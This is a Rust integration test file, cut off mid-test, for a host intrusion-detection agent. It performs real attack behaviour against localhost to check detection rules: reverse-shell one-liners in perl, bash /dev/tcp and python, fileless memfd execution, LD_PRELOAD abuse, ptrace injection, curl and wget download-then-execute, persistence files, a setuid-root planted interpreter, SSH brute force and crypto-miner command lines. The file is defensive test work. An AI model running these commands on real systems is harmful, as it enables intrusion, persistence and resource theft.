//! Detection (data_type 9000 alerts) end to end: the built-in rules
//! against the behaviour performed for real on this host, several
//! variants each, and the benign variants that must stay quiet; the
//! `kestrel rules` commands; a bad rule file refused at start; SIGHUP
//! reloading rules without losing the state of unchanged ones.
//!
//! Other agents and tests run on the host at the same time: every check
//! is on an alert whose fields carry this test's marker (in argv, a path,
//! a pid).

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::sshd::{client_key, Sshd};
use crate::support::{field, kestrel, marker, Agent, Container};
use serde_json::Value;

/// The agent with alerts unsuppressed (each variant is its own alert).
fn agent(extra: &[&str]) -> Agent {
    let mut args = vec!["--alert-suppress-secs", "0"];
    args.extend_from_slice(extra);
    Agent::start(&args)
}

fn alerts(agent: &Agent, rule: &str) -> Vec<Value> {
    agent
        .events()
        .into_iter()
        .filter(|e| e["data_type"] == "9000" && e["rule_id"] == rule)
        .collect()
}

/// Any field of `e` contains `needle`.
fn mentions(e: &Value, needle: &str) -> bool {
    e.as_object()
        .unwrap()
        .values()
        .any(|v| v.as_str().is_some_and(|s| s.contains(needle)))
}

/// Waits for an alert of `rule` that mentions `needle`.
fn wait_alert(agent: &Agent, rule: &str, needle: &str) -> Value {
    let a = agent.wait_for(&format!("alert {rule} mentioning {needle}"), |e| {
        e["data_type"] == "9000" && e["rule_id"] == rule && mentions(e, needle)
    });
    // Every value a string, the issue's fields present.
    for f in [
        "alert_id",
        "rule_id",
        "rule_name",
        "severity",
        "mitre_technique",
        "source",
        "description",
        "trigger_event_ids",
        "suppressed",
        "hostname",
        "event_id",
    ] {
        field(&a, f);
    }
    assert!(a.as_object().unwrap().values().all(Value::is_string), "{a}");
    assert_eq!(field(&a, "source"), "builtin");
    a
}

/// No alert of `rule` mentions `needle` (checked after a later variant's
/// alert arrived, plus the time delayed file events take).
fn assert_quiet(agent: &Agent, rule: &str, needle: &str) {
    std::thread::sleep(Duration::from_millis(1500));
    let bad: Vec<_> = alerts(agent, rule)
        .into_iter()
        .filter(|a| mentions(a, needle))
        .collect();
    assert!(
        bad.is_empty(),
        "{rule} fired on the benign {needle}: {bad:?}"
    );
}

/// The trigger events of an alert, from the agent's stream.
fn triggers(agent: &Agent, alert: &Value) -> Vec<Value> {
    let ids: Vec<String> = field(alert, "trigger_event_ids")
        .split(',')
        .map(String::from)
        .collect();
    let evs = agent.events();
    ids.iter()
        .map(|id| {
            evs.iter()
                .find(|e| e["event_id"].as_str() == Some(id))
                .unwrap_or_else(|| panic!("trigger {id} not in the stream"))
                .clone()
        })
        .collect()
}

/// Waits for an alert of `rule` about process `pid`.
fn wait_pid_alert(agent: &Agent, rule: &str, pid: u32) -> Value {
    let pid = pid.to_string();
    agent.wait_for(&format!("alert {rule} for process {pid}"), |e| {
        e["data_type"] == "9000" && e["rule_id"] == rule && e["tgid"].as_str() == Some(pid.as_str())
    })
}

fn scratch(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(marker(tag));
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn sh(script: &str) -> std::process::ExitStatus {
    Command::new("sh")
        .args(["-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap()
}

fn copy_exec(from: &str, to: &Path) {
    std::fs::copy(from, to).unwrap();
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A TCP listener on 127.0.0.1 that sends `commands` to whoever connects
/// and reads what comes back (a reverse shell's operator).
fn operator(commands: &'static str) -> (u16, std::thread::JoinHandle<String>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        let (mut c, _) = l.accept().unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        c.write_all(commands.as_bytes()).unwrap();
        let mut out = String::new();
        let _ = c.read_to_string(&mut out);
        out
    });
    (port, h)
}

#[test]
fn reverse_shells_alert_and_ssh_sessions_and_pipes_do_not() {
    let d = scratch("revsh");
    let rule = "kestrel.execution.reverse_shell_socket_stdio";
    let agent = agent(&[]);
    let m = marker("rs");

    // Benign first: a shell reading a local pipe.
    let pipe_mark = format!("{m}-pipe");
    sh(&format!("echo 'echo {pipe_mark}' | sh"));
    // An ssh session running a command.
    let sshd_dir = scratch("revsh-sshd");
    let key = client_key(&sshd_dir);
    let sshd = Sshd::start(&sshd_dir, None);
    sshd.key_login(&key);

    // 1. perl: a socket dup'ed onto 0 and 1, then exec of /bin/sh.
    let (port, op) = operator("echo hi; exit\n");
    let perl_mark = format!("{m}-perl");
    Command::new("perl")
        .args([
            "-e",
            &format!(
                "use Socket; socket(S,PF_INET,SOCK_STREAM,0) or die; \
                 connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))) or die; \
                 open(STDIN,'<&S'); open(STDOUT,'>&S'); exec('/bin/sh','-c','read l; eval $l # {perl_mark}');"
            ),
        ])
        .status()
        .unwrap();
    op.join().unwrap();
    wait_alert(&agent, rule, &perl_mark);

    // 2. bash's /dev/tcp, the usual one-liner.
    let (port, op) = operator("exit\n");
    let bash_mark = format!("{m}-bash");
    Command::new("bash")
        .args([
            "-c",
            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {bash_mark}"),
        ])
        .stderr(Stdio::null())
        .status()
        .unwrap();
    op.join().unwrap();
    // The inner bash's argv is "bash -i": found by its parent's marker.
    let a = agent.wait_for("the /dev/tcp reverse shell's alert", |e| {
        e["data_type"] == "9000"
            && e["rule_id"] == rule
            && e["argv"] == "bash -i"
            && agent.events().iter().any(|x| {
                x["data_type"] == "59"
                    && x["tgid"] == e["ppid"]
                    && x["argv"].as_str().is_some_and(|s| s.contains(&bash_mark))
            })
    });
    assert_eq!(field(&a, "mitre_technique"), "T1059.004");

    // 3. python: dup2 onto 0-2, then a renamed shell whose commands are
    // seen by their socket holder: the copy of dash called "kworker".
    let kworker = d.join("kworker");
    copy_exec("/bin/dash", &kworker);
    let (port, op) = operator("/usr/bin/id\nexit\n");
    Command::new("python3")
        .args([
            "-c",
            &format!(
                "import socket,os; s=socket.create_connection(('127.0.0.1',{port})); \
                 [os.dup2(s.fileno(),f) for f in (0,1,2)]; os.execv('{}',['kworker'])",
                kworker.display()
            ),
        ])
        .status()
        .unwrap();
    op.join().unwrap();
    // The id run under it: its socket holder is the renamed shell.
    agent.wait_for("the renamed shell's command", |e| {
        e["data_type"] == "9000"
            && e["rule_id"] == rule
            && e["exe"] == "/usr/bin/id"
            && e["pid_tree"]
                .as_str()
                .is_some_and(|t| t.contains("(kworker)"))
    });

    assert_quiet(&agent, rule, &pipe_mark);
    let sshd_pid = format!("({})->", sshd.pid());
    let from_ssh: Vec<_> = alerts(&agent, rule)
        .into_iter()
        .filter(|a| {
            a["pid_tree"].as_str().is_some_and(|t| {
                t.contains(&format!("->{}(sshd)", sshd.pid())) || t.contains(&sshd_pid)
            })
        })
        .collect();
    assert!(from_ssh.is_empty(), "an ssh session alerted: {from_ssh:?}");
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
    let _ = std::fs::remove_dir_all(sshd_dir);
}

#[test]
fn services_spawning_shells() {
    let d = scratch("websh");
    let rule = "kestrel.execution.service_spawned_shell";
    let agent = agent(&[]);
    let m = marker("ws");
    // Programs named as the services are (the kernel knows them by that
    // name): perl copies that run what an injected command would.
    for (svc, shell) in [
        ("nginx", "/bin/sh"),
        ("redis-server", "/bin/bash"),
        ("php-fpm8.2", "/bin/dash"),
    ] {
        let p = d.join(svc);
        copy_exec("/usr/bin/perl", &p);
        // Benign: the service re-executing itself (a worker, an upgrade).
        Command::new(&p)
            .args([
                "-e",
                &format!("exec('{}', '-e', 'exit 0 # {m}-{svc}-reexec')", p.display()),
            ])
            .status()
            .unwrap();
        Command::new(&p)
            .args([
                "-e",
                &format!("system('{shell}', '-c', 'true # {m}-{svc}')"),
            ])
            .status()
            .unwrap();
        let a = wait_alert(&agent, rule, &format!("{m}-{svc}"));
        assert!(field(&a, "mitre_technique").contains("T1505.003"));
        assert!(field(&a, "pid_tree").contains(&format!("({svc})->")));
    }
    for svc in ["nginx", "redis-server", "php-fpm8.2"] {
        assert_quiet(&agent, rule, &format!("{m}-{svc}-reexec"));
    }
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn fileless_executions() {
    let d = scratch("fileless");
    let rule = "kestrel.execution.fileless";
    let agent = agent(&[]);
    let m = marker("fl");
    // Benign: the same program from its file.
    Command::new("/usr/bin/true")
        .arg(format!("{m}-disk"))
        .status()
        .unwrap();
    // A memfd.
    Command::new("python3")
        .args([
            "-c",
            &format!(
                "import os; fd=os.memfd_create('x'); os.write(fd, open('/usr/bin/true','rb').read()); \
                 os.execv('/proc/self/fd/%d' % fd, ['t', '{m}-memfd'])"
            ),
        ])
        .status()
        .unwrap();
    wait_alert(&agent, rule, &format!("{m}-memfd"));
    // A file deleted before its exec, run through a descriptor.
    let del = d.join("gone");
    copy_exec("/usr/bin/true", &del);
    Command::new("python3")
        .args([
            "-c",
            &format!(
                "import os; fd=os.open('{}', os.O_RDONLY); os.unlink('{}'); \
                 os.execv('/proc/self/fd/%d' % fd, ['t', '{m}-deleted'])",
                del.display(),
                del.display()
            ),
        ])
        .status()
        .unwrap();
    let a = wait_alert(&agent, rule, &format!("{m}-deleted"));
    assert_eq!(field(&a, "mitre_technique"), "T1620");
    // From /dev/shm.
    let shm = PathBuf::from(format!("/dev/shm/{m}"));
    copy_exec("/usr/bin/true", &shm);
    Command::new(&shm).arg(format!("{m}-shm")).status().unwrap();
    wait_alert(&agent, rule, &format!("{m}-shm"));
    let _ = std::fs::remove_file(&shm);
    assert_quiet(&agent, rule, &format!("{m}-disk"));
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn ld_preload_outside_system_dirs_and_ld_so_preload() {
    let d = scratch("preload");
    let rule = "kestrel.execution.ld_preload";
    let agent = agent(&[]);
    let m = marker("lp");
    let libc = [
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/lib/x86_64-linux-gnu/libc.so.6",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists())
    .unwrap();
    let run = |preload: &str, tag: &str| {
        Command::new("/usr/bin/true")
            .arg(format!("{m}-{tag}"))
            .env("LD_PRELOAD", preload)
            .stderr(Stdio::null())
            .status()
            .unwrap();
    };
    // Benign: a system library.
    run(libc, "system");
    let evil = d.join("libevil.so");
    std::fs::write(&evil, b"not a library").unwrap();
    run(&evil.display().to_string(), "tmp");
    // A system library first, the payload after it.
    run(&format!("{libc}:{}", evil.display()), "list");
    // Climbing out of a system directory.
    run("/usr/lib/../../tmp/libevil.so", "dotdot");
    for tag in ["tmp", "list", "dotdot"] {
        let a = wait_alert(&agent, rule, &format!("{m}-{tag}"));
        assert_eq!(field(&a, "mitre_technique"), "T1574.006");
    }
    assert_quiet(&agent, rule, &format!("{m}-system"));

    // /etc/ld.so.preload created (empty: it preloads nothing, so the
    // host's other programs are not touched).
    let f = Path::new("/etc/ld.so.preload");
    if !f.exists() {
        std::fs::write(f, b"").unwrap();
        let a = wait_alert(&agent, "kestrel.execution.ld_so_preload_file", "");
        std::fs::remove_file(f).unwrap();
        assert_eq!(field(&a, "severity"), "critical");
    }
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn ptrace_by_programs_that_are_not_debuggers() {
    let d = scratch("ptrace");
    let rule = "kestrel.privilege_escalation.ptrace_non_debugger";
    let agent = agent(&[]);
    let m = marker("pt");
    // The debuggers first: strace and gdb attach by design.
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let vpid = victim.id();
    Command::new("strace")
        .args([
            "-o",
            "/dev/null",
            "-e",
            "trace=none",
            "/usr/bin/true",
            &format!("{m}-strace"),
        ])
        .status()
        .unwrap();
    Command::new("gdb")
        .args(["-batch", "-nx", "-p", &vpid.to_string(), "-ex", "detach"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    // An injector: copies of perl under names of their own, each doing
    // another request. ATTACH (16), SEIZE (16902), and POKEDATA (5)
    // after an attach.
    for (name, code) in [
        (
            "inj-attach",
            format!("syscall(101, 16, {vpid}, 0, 0); sleep 1; syscall(101, 17, {vpid}, 0, 0);"),
        ),
        (
            "inj-seize",
            format!("syscall(101, 16902, {vpid}, 0, 0); syscall(101, 17, {vpid}, 0, 0);"),
        ),
        (
            "inj-poke",
            format!(
                "syscall(101, 16, {vpid}, 0, 0); sleep 1; syscall(101, 5, {vpid}, 0x1000, 0x41); \
                 syscall(101, 17, {vpid}, 0, 0);"
            ),
        ),
    ] {
        let p = d.join(name);
        copy_exec("/usr/bin/perl", &p);
        Command::new(&p).args(["-e", &code]).status().unwrap();
        let a = wait_alert(&agent, rule, &p.display().to_string());
        assert_eq!(field(&a, "mitre_technique"), "T1055.008");
    }
    std::thread::sleep(Duration::from_secs(1));
    let bad: Vec<_> = alerts(&agent, rule)
        .into_iter()
        .filter(|a| a["exe"] == "/usr/bin/strace" || a["exe"] == "/usr/bin/gdb")
        .collect();
    assert!(bad.is_empty(), "a debugger alerted: {bad:?}");
    // The debuggers did make ptrace events (the benign case is real).
    assert!(agent
        .events()
        .iter()
        .any(|e| e["data_type"] == "101" && e["exe"] == "/usr/bin/gdb"));
    let _ = victim.kill();
    let _ = victim.wait();
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

/// A one-file HTTP server on 127.0.0.1 serving `body` for any path.
fn http_server(body: Vec<u8>, requests: usize) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for _ in 0..requests {
            let Ok((mut c, _)) = l.accept() else { return };
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
            let _ = c.write_all(
                format!(
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
                    body.len()
                )
                .as_bytes(),
            );
            let _ = c.write_all(&body);
        }
    });
    port
}

#[test]
fn downloaded_or_dropped_files_executed() {
    let rule = "kestrel.execution.download_then_exec";
    // Downloads land outside the temporary directories: the tool is what
    // counts there.
    let dl = PathBuf::from(format!("/root/{}", marker("dl")));
    std::fs::create_dir_all(&dl).unwrap();
    let tmp = scratch("drop");
    let agent = agent(&[]);
    let port = http_server(std::fs::read("/usr/bin/true").unwrap(), 3);
    let url = format!("http://127.0.0.1:{port}/x");
    let fetch = [
        (
            "curl",
            vec!["curl".to_string(), "-s".into(), "-o".into()],
            "curl",
        ),
        (
            "wget",
            vec!["wget".to_string(), "-q".into(), "-O".into()],
            "wget",
        ),
    ];
    for (tag, cmd, _) in &fetch {
        let out = dl.join(format!("{tag}-payload"));
        let mut c = Command::new(&cmd[0]);
        c.args(&cmd[1..]).arg(&out).arg(&url);
        assert!(c.status().unwrap().success(), "{tag} failed");
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o755)).unwrap();
        Command::new(&out).status().unwrap();
        let a = wait_alert(&agent, rule, &out.display().to_string());
        let t = triggers(&agent, &a);
        assert_eq!(t[0]["data_type"], "602");
        assert_eq!(t[1]["data_type"], "59");
    }
    // An interpreter writing it.
    let py = dl.join("py-payload");
    Command::new("python3")
        .args([
            "-c",
            &format!(
                "import urllib.request,os; open('{0}','wb').write(urllib.request.urlopen('{url}').read()); os.chmod('{0}',0o755)",
                py.display()
            ),
        ])
        .status()
        .unwrap();
    Command::new(&py).status().unwrap();
    wait_alert(&agent, rule, &py.display().to_string());
    // Copied into /tmp by any program, and a script run by its path.
    let dropped = tmp.join("dropped");
    Command::new("cp")
        .arg("/usr/bin/true")
        .arg(&dropped)
        .status()
        .unwrap();
    Command::new(&dropped).status().unwrap();
    wait_alert(&agent, rule, &dropped.display().to_string());
    let script = tmp.join("run.sh");
    sh(&format!(
        "printf '#!/bin/sh\\ntrue\\n' > {0}; chmod +x {0}; {0}",
        script.display()
    ));
    wait_alert(&agent, rule, &script.display().to_string());

    // Benign: a build linking into /tmp, and a file copied outside the
    // temporary directories.
    let src = tmp.join("hello.c");
    std::fs::write(&src, "int main(void){return 0;}\n").unwrap();
    let built = tmp.join("hello");
    assert!(Command::new("cc")
        .arg(&src)
        .arg("-o")
        .arg(&built)
        .status()
        .unwrap()
        .success());
    Command::new(&built).status().unwrap();
    let local = dl.join("local-copy");
    Command::new("cp")
        .arg("/usr/bin/true")
        .arg(&local)
        .status()
        .unwrap();
    Command::new(&local).status().unwrap();
    assert_quiet(&agent, rule, &built.display().to_string());
    assert_quiet(&agent, rule, &local.display().to_string());
    agent.stop();
    let _ = std::fs::remove_dir_all(dl);
    let _ = std::fs::remove_dir_all(tmp);
}

/// A .deb holding `files` (path, content), built with dpkg-deb.
fn build_deb(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
    let root = dir.join(format!("{name}-root"));
    std::fs::create_dir_all(root.join("DEBIAN")).unwrap();
    std::fs::write(
        root.join("DEBIAN/control"),
        format!(
            "Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: kestrel tests <t@example.org>\nDescription: test package\n"
        ),
    )
    .unwrap();
    for (p, content) in files {
        let f = root.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, content).unwrap();
    }
    let deb = dir.join(format!("{name}.deb"));
    assert!(Command::new("dpkg-deb")
        .args(["--build", "--root-owner-group"])
        .arg(&root)
        .arg(&deb)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    deb
}

#[test]
fn persistence_files_and_the_package_manager() {
    let d = scratch("persist");
    let agent = agent(&[]);
    let m = marker("ps");
    let tag: String = m.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    // Benign: dpkg installing its own cron file.
    let pkg = format!("kestrel-test-{}", &tag[tag.len() - 12..]);
    let pkg_cron = format!("/etc/cron.d/{pkg}");
    let deb = build_deb(&d, &pkg, &[(&pkg_cron, "# kestrel test package\n")]);
    assert!(Command::new("dpkg")
        .arg("-i")
        .arg(&deb)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());

    let cron = format!("/etc/cron.d/kestrel-test-{tag}");
    let unit = format!("/etc/systemd/system/kestrel-test-{tag}.service");
    let init = format!("/etc/init.d/kestrel-test-{tag}");
    let profile = format!("/etc/profile.d/kestrel-test-{tag}.sh");
    let home = d.join("home/user");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let bashrc = home.join(".bashrc");
    let keys = home.join(".ssh/authorized_keys");
    // Written by different programs: a shell redirection, cp, python.
    sh(&format!("echo '# kestrel test' > {cron}"));
    std::fs::write(d.join("unit"), "[Unit]\nDescription=kestrel test\n").unwrap();
    Command::new("cp")
        .arg(d.join("unit"))
        .arg(&unit)
        .status()
        .unwrap();
    Command::new("python3")
        .args(["-c", &format!("open('{init}','w').write('#!/bin/sh\\n')")])
        .status()
        .unwrap();
    sh(&format!("echo '# kestrel test' > {profile}"));
    sh(&format!("echo 'echo hi' >> {}", bashrc.display()));
    Command::new("python3")
        .args([
            "-c",
            &format!(
                "open('{}','w').write('ssh-ed25519 AAAA test')",
                keys.display()
            ),
        ])
        .status()
        .unwrap();
    for (rule, path, tech) in [
        ("kestrel.persistence.cron", cron.clone(), "T1053.003"),
        (
            "kestrel.persistence.systemd_unit",
            unit.clone(),
            "T1543.002",
        ),
        ("kestrel.persistence.init_script", init.clone(), "T1037.004"),
        (
            "kestrel.persistence.shell_profile",
            profile.clone(),
            "T1546.004",
        ),
        (
            "kestrel.persistence.shell_profile",
            bashrc.display().to_string(),
            "T1546.004",
        ),
        (
            "kestrel.persistence.authorized_keys",
            keys.display().to_string(),
            "T1098.004",
        ),
    ] {
        let a = agent.wait_for(&format!("{rule} for {path}"), |e| {
            e["data_type"] == "9000"
                && e["rule_id"] == rule
                && triggers(&agent, e)
                    .iter()
                    .any(|t| t["file_path"].as_str() == Some(path.as_str()))
        });
        assert_eq!(field(&a, "mitre_technique"), tech);
    }
    // dpkg's own file (written as .dpkg-new, then renamed) made no alert.
    std::thread::sleep(Duration::from_millis(1500));
    let pkg_alerts: Vec<_> = alerts(&agent, "kestrel.persistence.cron")
        .into_iter()
        .filter(|a| {
            triggers(&agent, a)
                .iter()
                .any(|t| t["file_path"].as_str().is_some_and(|p| p.contains(&pkg)))
        })
        .collect();
    assert!(
        pkg_alerts.is_empty(),
        "dpkg's own files alerted: {pkg_alerts:?}"
    );
    assert!(
        agent.events().iter().any(|e| e["data_type"] == "602"
            && e["exe"] == "/usr/bin/dpkg"
            && e["file_path"].as_str().is_some_and(|p| p.contains(&pkg))),
        "dpkg's creation was not even seen"
    );
    agent.stop();
    for p in [&cron, &unit, &init, &profile] {
        let _ = std::fs::remove_file(p);
    }
    Command::new("dpkg")
        .args(["-P", &pkg])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn privilege_escalation_without_an_allowlisted_exec() {
    let d = scratch("privesc");
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
    let rule = "kestrel.privilege_escalation.made_root";
    let agent = agent(&[]);
    // Benign: passwd, setuid root by design, run by an unprivileged user.
    Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/passwd",
            "-S",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    // 1. A planted setuid-root copy of perl, run by nobody.
    let suid = d.join("suidperl");
    copy_exec("/usr/bin/perl", &suid);
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let mut child = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .args(["-e", "exit 0"])
        .spawn()
        .unwrap();
    let pid = child.id();
    child.wait().unwrap();
    let a = wait_pid_alert(&agent, rule, pid);
    assert_eq!(field(&a, "mitre_technique"), "T1068");
    // 2. A process that dropped to nobody keeping root saved (seen so by
    // its connect), then took root back with setresuid (117) and
    // connected again: no exec at all.
    let back = d.join("regain");
    copy_exec("/usr/bin/perl", &back);
    let mut child = Command::new(&back)
        .args([
            "-e",
            "use Socket; sub c { socket(my $s,PF_INET,SOCK_STREAM,0); connect($s,pack_sockaddr_in(1,inet_aton('127.0.0.1'))); } \
             syscall(117, 65534, 65534, 0) == 0 or die; c(); syscall(117, 0, 0, 0) == 0 or die; c();",
        ])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success());
    wait_pid_alert(&agent, rule, pid);
    std::thread::sleep(Duration::from_secs(1));
    assert!(
        agent
            .events()
            .iter()
            .any(|e| e["data_type"] == "604" && e["filename"] == "/usr/bin/passwd"),
        "passwd made no credential change event (the benign case did not happen)"
    );
    assert_quiet(&agent, rule, "/usr/bin/passwd");
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn ssh_brute_force_then_success() {
    let d = scratch("brute");
    let key = client_key(&d);
    let log = d.join("sshd.log");
    let sshd = Sshd::start(&d, Some(&log));
    let state = d.join("state");
    let agent = agent(&[
        "--auth-log",
        &log.display().to_string(),
        "--login-journal",
        "off",
        "--state-dir",
        &state.display().to_string(),
    ]);
    let burst = "kestrel.credential_access.ssh_brute_force";
    let success = "kestrel.credential_access.ssh_brute_force_success";
    // Benign: one mistyped password, then the right key.
    sshd.wrong_password("root");
    sshd.key_login(&key);
    agent.wait_for("the first success", |e| {
        e["data_type"] == "1001" && e["status"] == "Success"
    });
    std::thread::sleep(Duration::from_secs(1));
    assert!(alerts(&agent, burst).is_empty() && alerts(&agent, success).is_empty());
    // Ten failures within a minute, then a success from the same source.
    let start = Instant::now();
    for _ in 0..10 {
        sshd.wrong_password("root");
    }
    assert!(
        start.elapsed() < Duration::from_secs(50),
        "the burst took too long"
    );
    let a = agent.wait_for("the burst's alert", |e| {
        e["data_type"] == "9000" && e["rule_id"] == burst
    });
    assert_eq!(field(&a, "mitre_technique"), "T1110.001");
    assert_eq!(field(&a, "severity"), "medium");
    sshd.key_login(&key);
    let a = agent.wait_for("the burst-then-success alert", |e| {
        e["data_type"] == "9000" && e["rule_id"] == success
    });
    assert_eq!(field(&a, "severity"), "critical");
    let t = triggers(&agent, &a);
    assert!(t.len() >= 11, "{t:?}");
    assert_eq!(t.last().unwrap()["status"], "Success");
    assert!(t.iter().all(|e| e["from_ip"] == "127.0.0.1"));
    agent.stop();
    drop(sshd);
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn crypto_mining_command_lines_pool_dns_and_stratum_ports() {
    let d = scratch("mining");
    let agent = agent(&[]);
    let m = marker("mn");
    // Whatever the miner is called: a copy of true under a bland name.
    let miner = d.join("systemd-helper");
    copy_exec("/usr/bin/true", &miner);
    for (i, args) in [
        vec!["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"],
        vec![
            "--url",
            "pool.example.net:443",
            "--donate-level=1",
            "--threads",
            "2",
        ],
        vec!["-a", "rx/0", "-o", "pool.example.net:80"],
        vec!["--algo", "kawpow", "--pool", "stratum+ssl://x.example:4444"],
    ]
    .into_iter()
    .enumerate()
    {
        Command::new(&miner)
            .args(&args)
            .arg(format!("{m}-{i}"))
            .status()
            .unwrap();
        let a = wait_alert(
            &agent,
            "kestrel.impact.miner_command_line",
            &format!("{m}-{i}"),
        );
        assert_eq!(field(&a, "mitre_technique"), "T1496");
    }
    // Benign command line mentioning a pool of another kind.
    Command::new(&miner)
        .args(["--pool-size", "4", &format!("{m}-benign")])
        .status()
        .unwrap();

    // Connections to stratum ports (refused: nothing listens there).
    for port in [3333u16, 14444] {
        Command::new("perl")
            .args([
                "-e",
                &format!(
                    "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))); # {m}"
                ),
            ])
            .status()
            .unwrap();
        agent.wait_for(&format!("the stratum port {port} alert"), |e| {
            e["data_type"] == "9000"
                && e["rule_id"] == "kestrel.impact.stratum_port_connect"
                && triggers(&agent, e)
                    .iter()
                    .any(|t| t["dport"] == port.to_string().as_str() && t["dip"] == "127.0.0.1")
        });
    }

    // DNS answers for pool domains, from a responder on 127.0.0.9:53.
    let resp = UdpSocket::bind("127.0.0.9:53").unwrap();
    resp.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let tag: String = m.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    for name in [
        format!("x{}.supportxmr.com", &tag[tag.len() - 10..]),
        format!("GULF{}.MoneroOcean.stream", &tag[tag.len() - 10..]),
        "xmr.pool.minergate.com".to_string(),
    ] {
        let client = UdpSocket::bind("127.0.0.1:0").unwrap();
        client
            .send_to(
                &kestrel_decode::dns::build::message(7, 0x0100, &name, 1),
                "127.0.0.9:53",
            )
            .unwrap();
        let mut buf = [0u8; 512];
        let (_, peer) = resp.recv_from(&mut buf).unwrap();
        resp.send_to(
            &kestrel_decode::dns::build::message(7, 0x8180, &name, 1),
            peer,
        )
        .unwrap();
        client
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        client.recv_from(&mut buf).unwrap();
        agent.wait_for(&format!("the pool DNS alert for {name}"), |e| {
            e["data_type"] == "9000"
                && e["rule_id"] == "kestrel.impact.mining_pool_dns"
                && triggers(&agent, e)
                    .iter()
                    .any(|t| t["query"].as_str() == Some(name.as_str()))
        });
    }
    assert_quiet(
        &agent,
        "kestrel.impact.miner_command_line",
        &format!("{m}-benign"),
    );
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn outbound_connection_then_shell_within_five_seconds() {
    let rule = "kestrel.execution.connect_then_shell";
    let agent = agent(&[]);
    let m = marker("cs");
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming() {
            drop(c);
        }
    });
    let conn = format!(
        "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))) or die;"
    );
    // A child shell, an exec of a shell in place, and through bash.
    for (tag, tail) in [
        (
            "child",
            format!("system('/bin/sh', '-c', 'true # {m}-child');"),
        ),
        (
            "exec",
            format!("exec('/bin/dash', '-c', 'true # {m}-exec');"),
        ),
        (
            "late",
            format!("sleep 7; system('/bin/sh', '-c', 'true # {m}-late');"),
        ),
    ] {
        Command::new("perl")
            .args(["-e", &format!("{conn} {tail}")])
            .status()
            .unwrap();
        if tag != "late" {
            let a = wait_alert(&agent, rule, &format!("{m}-{tag}"));
            assert_eq!(field(&a, "mitre_technique"), "T1059.004,T1071");
            let t = triggers(&agent, &a);
            assert_eq!(t[0]["data_type"], "42");
            assert_eq!(t[1]["data_type"], "59");
        }
    }
    // Past 5 s: no sequence.
    assert_quiet(&agent, rule, &format!("{m}-late"));
    agent.stop();
}

// The window is long because the reload tests put two reloads, each
// waited for, between the steps: under a loaded CI a minute can pass.
const CUSTOM: &str = "rules:
- id: test.two_steps
  name: two marked execs
  severity: low
  sequence:
    by: []
    within: 10m
    steps:
    - condition: {all: [{field: data_type, equals: '59'}, {field: argv, contains: MARK-a}]}
    - condition: {all: [{field: data_type, equals: '59'}, {field: argv, contains: MARK-b}]}
";

#[test]
fn rules_check_and_rules_test() {
    let d = scratch("rulescli");
    // The built-in set: one line per rule, all loaded.
    let out = kestrel().args(["rules", "check"]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<Value> = String::from_utf8(out.stdout)
